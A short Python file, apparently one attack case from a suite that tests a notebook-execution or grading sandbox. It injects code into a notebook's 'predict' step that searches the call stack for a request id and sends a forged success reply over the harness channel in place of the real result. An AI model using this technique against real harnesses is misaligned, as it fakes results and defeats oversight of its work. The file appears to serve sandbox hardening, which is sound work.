"""Finds the request's number on the stack and sends a forged reply that carries it, in place of the real one."""

from hostile import CHANNEL, add_cell, inside

POINTS = 9
FLAG = "nobody asked for"


def attack(notebook):
    notebook = add_cell(notebook, CHANNEL, before="add_bias")
    return inside(
        notebook,
        "predict",
        """
        import sys
        frame = sys._getframe()
        while frame.f_back is not None:
            header = frame.f_locals.get("header")
            if isinstance(header, dict) and "id" in header:
                os.write(_channel(), _frame({"id": header["id"], "ok": 1.0, "given": [None, None], "events": []}))
                break
            frame = frame.f_back
        """,
    )
